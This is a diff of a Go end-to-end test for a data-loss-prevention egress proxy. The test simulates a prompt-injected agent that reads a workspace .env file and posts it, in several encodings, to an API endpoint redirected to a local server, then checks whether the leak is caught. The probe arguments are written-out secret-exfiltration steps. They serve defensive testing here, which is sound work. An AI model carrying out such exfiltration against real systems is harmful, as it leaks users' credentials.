@@ -2,22 +2,18 @@ package egress
 
 import (
 	"compress/gzip"
-	"crypto/tls"
 	"encoding/base64"
 	"encoding/hex"
 	"io"
 	"net/http"
-	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"strings"
 	"sync"
 	"testing"
-	"time"
 
 	"github.com/vibedom/vibedom/e2e/clitest"
-	"github.com/vibedom/vibedom/keys"
-	"github.com/vibedom/vibedom/netfilter"
+	"github.com/vibedom/vibedom/netfilter/mitmproxy"
 )
 
 // TestDLPVM plays a prompt-injected agent: as root in the guest it reads
@@ -31,7 +27,7 @@ func TestDLPVM(t *testing.T) { testDLPVM(t) }
 
 // TestDLPVMMitmproxy is TestDLPVM with --proxy-engine mitmproxy.
 func TestDLPVMMitmproxy(t *testing.T) {
-	if _, err := netfilter.MitmdumpVersion(t.Context(), ""); err != nil {
+	if _, err := mitmproxy.MitmdumpVersion(t.Context(), ""); err != nil {
 		t.Skipf("mitmproxy engine not tested: %v", err)
 	}
 	testDLPVM(t, "--proxy-engine", "mitmproxy")
@@ -50,11 +46,7 @@ func testDLPVM(t *testing.T, extra ...string) {
 
 	var mu sync.Mutex
 	var seen []string // everything each request carried: URL, headers, decoded body
-	upCA, err := keys.EnsureCA(filepath.Join(t.TempDir(), "upstream-ca"))
-	if err != nil {
-		t.Fatal(err)
-	}
-	upstream := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+	port, caFile := clitest.ServeTLS(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		var body io.Reader = r.Body
 		if r.Header.Get("Content-Encoding") == "gzip" {
 			zr, err := gzip.NewReader(r.Body)
@@ -73,16 +65,7 @@ func testDLPVM(t *testing.T, extra ...string) {
 		seen = append(seen, all.String())
 		mu.Unlock()
 		io.WriteString(w, "ok")
-	}))
-	leaf, err := upCA.IssueLeaf("api.anthropic.com", time.Hour)
-	if err != nil {
-		t.Fatal(err)
-	}
-	upstream.TLS = &tls.Config{Certificates: []tls.Certificate{*leaf}}
-	upstream.StartTLS()
-	defer upstream.Close()
-	caFile := filepath.Join(t.TempDir(), "upstream-ca.pem")
-	os.WriteFile(caFile, upCA.CertPEM(), 0o644)
+	}), "api.anthropic.com")
 
 	buildProbe(t, ws)
 	modes := []string{"text", "json", "gzip", "b64", "form", "query", "header"}
@@ -90,7 +73,6 @@ func testDLPVM(t *testing.T, extra ...string) {
 	for _, m := range modes {
 		args = append(args, "post:"+m+":/mnt/workspace/.env:https://api.anthropic.com/v1/messages")
 	}
-	_, port, _ := strings.Cut(strings.TrimPrefix(upstream.URL, "https://"), ":")
 	runArgs := append([]string{"run", ws, "--preflight=warn", "--no-review"}, extra...)
 	stdout, stderr, code := c.Run(t, "", append(runArgs,
 		"--resolve", "api.anthropic.com:443:127.0.0.1:"+port, "--ca-file", caFile,
